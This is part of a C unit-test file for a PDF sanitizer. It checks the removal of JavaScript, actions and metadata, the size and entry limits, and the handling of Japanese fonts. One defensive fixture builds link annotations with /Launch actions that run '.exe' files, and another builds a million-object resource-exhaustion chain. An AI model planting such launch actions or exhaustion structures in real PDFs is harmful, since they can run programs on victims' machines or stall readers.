	assert_null(memmem(r.out.data, r.out.len, "/JS", 3));
	assert_true(entry(&r, SK_ACTION_REMOVED, "additional-action", NULL) ||
		    entry(&r, SK_ACTION_REMOVED, "javascript", NULL));
	tu_free(&r);
	/* 画像化 fails too: malformed, qpdf's words and 画像化's in the detail */
	f.fail = true;
	tu_process(p.b.data, p.b.len, "loop.pdf", &opt, &r);
	assert_reason(&r, SK_REASON_MALFORMED);
	assert_non_null(strstr(r.res.report.reason_detail, "画像化"));
	assert_int_equal(r.out.len, 0);
	tu_free(&r);
	/* a profile that does not allow it: never asked */
	sk_profile pr = *sk_profile_default();
	pr.damaged_pdf_image = false;
	opt.profile = &pr;
	f.fail = false;
	f.calls = 0;
	tu_process(p.b.data, p.b.len, "loop.pdf", &opt, &r);
	assert_reason(&r, SK_REASON_MALFORMED);
	assert_int_equal(f.calls, 0);
	tu_free(&r);
	sk_buf_free(&p.b);
}

/* A million objects (a chain from the catalog): the walk stops at the entries limit. */
static void limit_entries(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R /Chain 4 0 R >>");
	pb_obj(&p, "<< /Type /Pages /Kids [] /Count 0 >>");
	pb_obj(&p, "<< >>");
	const size_t n = 1000000;
	for (size_t i = 4; i < n; i++)
		pb_obj(&p, "<< /N %zu 0 R >>", i + 1);
	pb_obj(&p, "<< >>");
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_verdict(&r, SK_VERDICT_BLOCKED);
	assert_reason(&r, SK_REASON_LIMIT_ENTRIES);
	tu_free(&r);

	/* and just under a small limit it passes */
	sk_options o;
	sk_options_default(&o);
	o.budget.max_entries = 19;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R /Chain 4 0 R >>");
	pb_obj(&p, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
	pb_obj(&p, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>");
	for (size_t i = 4; i <= 18; i++)
		pb_obj(&p, "<< /N %zu 0 R >>", i + 1);
	pb_obj(&p, "<< >>");
	pb_end(&p, NULL);
	tu_process(p.b.data, p.b.len, "t.pdf", &o, &r);
	assert_verdict(&r, SK_VERDICT_CLEAN); /* 19 objects walked */
	tu_free(&r);
	o.budget.max_entries = 18;
	tu_process(p.b.data, p.b.len, "t.pdf", &o, &r);
	assert_reason(&r, SK_REASON_LIMIT_ENTRIES);
	tu_free(&r);
	sk_buf_free(&p.b);
}

static void limit_expanded(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R >>");
	pb_page(&p, NULL, NULL);
	pb_end(&p, NULL);
	sk_options o;
	sk_options_default(&o);
	o.budget.max_expanded = p.b.len - 1;
	tu_run r;
	tu_process(p.b.data, p.b.len, "t.pdf", &o, &r);
	assert_reason(&r, SK_REASON_LIMIT_SIZE);
	tu_free(&r);
	o.budget.max_expanded = p.b.len;
	tu_process(p.b.data, p.b.len, "t.pdf", &o, &r);
	assert_verdict(&r, SK_VERDICT_CLEAN);
	tu_free(&r);
	sk_buf_free(&p.b);
}

/* Many removals: the first ones one by one, the rest summed; the count stays exact. */
static void many_removals(void **state)
{
	(void)state;
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R >>");
	sk_buf annots;
	sk_buf_init(&annots, 0);
	for (int i = 0; i < 100; i++)
		assert_int_equal(sk_buf_printf(&annots, "%d 0 R ", 5 + i), 0);
	pb_page(&p, sk_buf_str(&annots), NULL);
	sk_buf_free(&annots);
	for (int i = 0; i < 100; i++)
		pb_obj(&p, "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (%d.exe) >> >>", i);
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_int_equal(total(&r, SK_ACTION_REMOVED, "launch"), 100);
	assert_true(r.res.report.n <= 65);
	assert_int_equal(reread(&r, NULL), 1);
	assert_false(has(&r, "/Launch"));
	tu_free(&r);
}

/* Japanese text with a predefined CMap and a font that is not embedded stays as it was. */
static void japanese_font_kept(void **state)
{
	(void)state;
	/* 関所 (Shift_JIS 8AD6 8F8A) */
	static const char sjis[] = "BT /F1 18 Tf 72 700 Td (\x8a\xd6\x8f\x8a) Tj ET";
	pdfb p;
	pb_begin(&p);
	pb_obj(&p, "<< /Type /Catalog /Pages 2 0 R >>");
	pb_obj(&p, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
	pb_obj(&p, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
		   "/Resources << /Font << /F1 5 0 R >> >> >>");
	pb_stream(&p, "", sjis);
	pb_obj(&p, "<< /Type /Font /Subtype /Type0 /BaseFont /HeiseiMin-W3-90ms-RKSJ-H "
		   "/Encoding /90ms-RKSJ-H /DescendantFonts [6 0 R] >>");
	pb_obj(&p, "<< /Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiMin-W3 "
		   "/CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /DW 1000 >>");
	pb_end(&p, NULL);
	tu_run r;
	run(&p, NULL, &r);
	assert_verdict(&r, SK_VERDICT_CLEAN);
	char *c;
	assert_int_equal(reread(&r, &c), 1);
	assert_non_null(strstr(c, "(\x8a\xd6\x8f\x8a) Tj"));
	free(c);
	assert_true(has(&r, "/Encoding /90ms-RKSJ-H"));
	assert_true(has(&r, "/BaseFont /HeiseiMin-W3"));
	assert_true(has(&r, "/Ordering (Japan1)"));
	tu_free(&r);
}

/* The real document from mat2's tests: metadata goes, the pages stay. */
static void corpus_dirty(void **state)
{
	(void)state;
	const char *path = tu_src("../shared/corpus/office/mat2/dirty.pdf");
	FILE *f = fopen(path, "rb");
	if (!f) {
		path = "/work/shared/corpus/office/mat2/dirty.pdf";
		f = fopen(path, "rb");
	}
	if (!f) {
		print_message("corpus dirty.pdf not found; skipped\n");
		skip();
	}
	fclose(f);
	sk_buf in;
	tu_read(path, &in);
	tu_run r;
	tu_process(in.data, in.len, "dirty.pdf", NULL, &r);
	assert_non_null(entry(&r, SK_ACTION_REMOVED, "metadata", "Info"));
	assert_non_null(entry(&r, SK_ACTION_REMOVED, "metadata", "Metadata"));
	qpdf_data q = qpdf_init();
	qpdf_silence_errors(q);
	qpdf_set_suppress_warnings(q, QPDF_TRUE);
	assert_int_equal(qpdf_read_memory(q, "in", (const char *)in.data, in.len, ""), 0);
	int pages = qpdf_get_num_pages(q);
	qpdf_cleanup(&q);
	assert_true(pages > 0);
	assert_int_equal(reread(&r, NULL), pages);
	assert_false(has(&r, "/Producer"));
	assert_false(has(&r, "PTEX.FileName"));
	tu_free(&r);
	sk_buf_free(&in);
}

static void texts(void **state)
{
	(void)state;
	const char *codes[] = {"structure", "action", "javascript", "open-action", "uri",
			       "encryption", "metadata", "xfa"};
	for (size_t i = 0; i < sizeof(codes) / sizeof(codes[0]); i++)
		assert_string_not_equal(sk_what_text(codes[i], SK_LANG_JA), codes[i]);
	assert_string_not_equal(sk_what_text("structure", SK_LANG_EN), "structure");
	assert_string_not_equal(sk_what_text("action", SK_LANG_EN), "action");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(clean_page_with_link),
		cmocka_unit_test(open_action_javascript),
		cmocka_unit_test(open_action_chain),
		cmocka_unit_test(names_javascript),
		cmocka_unit_test(additional_actions),
		cmocka_unit_test(link_actions),
		cmocka_unit_test(uri_schemes_and_external_streams),
		cmocka_unit_test(outlines_and_chains),
		cmocka_unit_test(reference_cycles),
		cmocka_unit_test(attachments_and_media),
		cmocka_unit_test(xfa),
		cmocka_unit_test(links_neutralized),
		cmocka_unit_test(metadata),
		cmocka_unit_test(hidden_anywhere),
		cmocka_unit_test(encrypted),
		cmocka_unit_test(encrypted_pubsec),
		cmocka_unit_test(repaired),
		cmocka_unit_test(malformed),
		cmocka_unit_test(damaged_second_chance),
		cmocka_unit_test(limit_entries),
		cmocka_unit_test(limit_expanded),
		cmocka_unit_test(many_removals),
		cmocka_unit_test(japanese_font_kept),
		cmocka_unit_test(corpus_dirty),
		cmocka_unit_test(texts),
		cmocka_unit_test(time_limit),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
